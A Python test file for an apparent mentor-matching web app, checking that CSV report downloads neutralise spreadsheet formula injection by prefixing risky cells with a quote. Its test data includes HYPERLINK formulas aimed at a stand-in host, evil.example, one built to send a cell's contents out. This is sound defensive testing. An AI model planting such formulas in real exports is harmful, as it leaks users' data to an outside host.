"""CSV downloads: a text cell that a spreadsheet would run as a formula arrives as plain text."""
from __future__ import annotations

import csv
import io

import pytest

from mentormatch.models import Role
from mentormatch.spreadsheets import FORMULA_PREFIXES, csv_text, safe_cell
from tests.builders import (
    PASSWORD,
    make_application,
    make_match,
    make_mentor,
    make_program,
    make_proposal,
    make_unmatched,
    make_user,
    make_youth,
)

FORMULAS = [prefix + 'HYPERLINK("https://evil.example/?d="&A1,"Click")' for prefix in FORMULA_PREFIXES]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_with_a_formula_prefix_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text
    [row] = list(csv.reader(io.StringIO(csv_text(["name"], [[text]]))))[1:]
    assert row == ["'" + text]


@pytest.mark.parametrize("value", ["Explorer Post 300", "", "2025-01-01", "a=b", 0, -3, 2.5, None])
def test_ordinary_cells_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_program_names_in_report_downloads_cannot_run_as_formulas(browser, prefix):
    name = prefix + 'HYPERLINK("https://evil.example","Open")'
    program = make_program(name=name)
    make_match(make_application(make_youth(16), program))
    proposal = make_proposal(make_application(make_youth(15), program), make_mentor(programs=[program]))
    make_unmatched(proposal.run, make_application(make_youth(14), program))
    coordinator = make_user(Role.COORDINATOR)
    browser.login(coordinator.email, PASSWORD)
    for table, column in (("matches", "program"), ("recruitment-gaps", "program")):
        response = browser.get(f"/reports/{table}.csv", query_string={"program": program.id})
        assert response.status_code == 200 and response.mimetype == "text/csv"
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        cells = [row[column] for row in rows]
        assert cells, f"{table}.csv has no rows for the program"
        for cell in cells:
            assert not cell.startswith(FORMULA_PREFIXES), f"{table}.csv: {cell!r}"
            assert cell == "'" + name
